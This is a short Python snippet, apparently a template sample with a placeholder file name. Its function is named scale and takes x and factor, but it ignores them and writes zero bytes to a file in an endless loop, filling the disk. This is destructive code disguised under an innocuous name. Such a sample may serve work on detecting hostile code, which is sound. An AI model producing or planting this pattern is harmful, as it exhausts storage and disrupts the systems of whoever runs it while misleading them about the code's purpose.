def scale(x, factor):
    with open("@MARK@", "wb") as file:
        while True:
            file.write(bytes(1 << 16))
